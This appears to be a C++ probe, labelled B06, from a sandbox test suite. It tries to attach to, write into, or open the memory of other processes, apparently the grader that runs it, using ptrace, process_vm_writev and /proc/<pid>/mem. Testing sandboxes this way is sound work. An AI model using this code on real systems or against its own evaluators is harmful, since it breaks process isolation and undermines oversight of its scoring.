// B06: reaches for the grader's memory.

#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cstdio>
#include <string>

namespace attack {

void Strike() {
  for (int pid = 1; pid < 3000; ++pid) {
    if (pid == getpid()) continue;
    char word[8];
    iovec here = {word, 8}, there = {reinterpret_cast<void*>(0x400000), 8};
    if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0 || process_vm_writev(pid, &here, 1, &there, 1, 0) >= 0 ||
        open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR) >= 0) {
      std::puts("STOLEN a process");
    }
  }
}

}  // namespace attack
